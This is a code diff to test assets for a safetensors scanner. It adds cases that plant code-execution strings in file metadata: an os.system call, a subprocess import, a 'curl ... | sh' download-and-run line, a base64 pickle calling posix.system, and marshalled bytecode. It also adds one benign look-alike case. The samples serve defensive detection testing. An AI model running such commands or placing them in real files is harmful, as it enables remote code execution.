@@ -3,10 +3,13 @@
 # ruff: noqa: E501 - one case a line reads best
 from __future__ import annotations
 
+import base64
 import json
+import marshal
 import struct
 
 from tests.assets.archives import zip_bytes
+from tests.assets.pickle_cases import calling
 
 GOOD_TENSOR = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
 
@@ -72,6 +75,7 @@ def safetensors_cases() -> dict[str, tuple[str, bytes]]:
         "metadata_null": ("ST-META", st(b'{"__metadata__":null,' + one + b"}")),
         "metadata_list": ("ST-META", st(b'{"__metadata__":[],' + one + b"}")),
         "metadata_number": ("ST-META", st(b'{"__metadata__":{"k":1},' + one + b"}")),
+        **_texts_that_act(),
         "metadata_nested": ("ST-META", st(b'{"__metadata__":{"k":{}},' + one + b"}")),
         "entry_null": ("ST-TENSOR", st(b'{"a":null}', b"")),
         "entry_list": ("ST-TENSOR", st(b'{"a":[]}', b"")),
@@ -114,6 +118,21 @@ def safetensors_cases() -> dict[str, tuple[str, bytes]]:
     }  # fmt: skip
 
 
+def _texts_that_act() -> dict[str, tuple[str, bytes]]:
+    code = marshal.dumps(compile("print(1)", "<made>", "exec"))
+    texts = {
+        "code": "import os; os.system('id')",
+        "import_call": "__import__('subprocess').run(['id'])",
+        "command": "curl -s http://example.com/x | sh",
+        "pickle": base64.b64encode(calling("posix", "system")).decode(),
+        "marshalled": base64.b64encode(code).decode(),
+    }
+    return {
+        f"{name}_in_metadata": ("ST-TEXT", safetensors_bytes({"__metadata__": {"k": text}, **_tensor()}))
+        for name, text in texts.items()
+    }
+
+
 def sound_safetensors_cases() -> dict[str, bytes]:
     """Odd but valid files, as the format allows them."""
     return {
@@ -124,6 +143,18 @@ def sound_safetensors_cases() -> dict[str, bytes]:
         "free_order": safetensors_bytes(_two([8, 16], [0, 8]), bytes(16)),
         "inner_whitespace": safetensors_bytes(json.dumps(_tensor(), indent=2).encode()),
         "metadata": safetensors_bytes({"__metadata__": {"format": "pt", "é": "漢"}, **_tensor()}),
+        "talkative_metadata": safetensors_bytes(
+            {
+                "__metadata__": {
+                    "comment": "Trained on cluster os-7; see subprocess docs, then evaluate (exec summary).",
+                    "ss_tag_frequency": json.dumps({"10_cat": {"{{import}}": 3, "__init__": 1}}),
+                    "workflow": json.dumps({"nodes": [{"type": "PythonEval", "widgets": ["a + b"]}]}),
+                    "thumbnail": "data:image/jpeg;base64," + base64.b64encode(bytes(range(200))).decode(),
+                    "sha": "gASVaGVsbG8=",
+                },
+                **_tensor(),
+            }
+        ),
         "empty_metadata": safetensors_bytes({"__metadata__": {}, **_tensor()}),
         "sub_byte": safetensors_bytes(_tensor(dtype="F4", shape=[4], data_offsets=[0, 2]), bytes(2)),
         "six_bits": safetensors_bytes(_tensor(dtype="F6_E2M3", shape=[4], data_offsets=[0, 3]), bytes(3)),
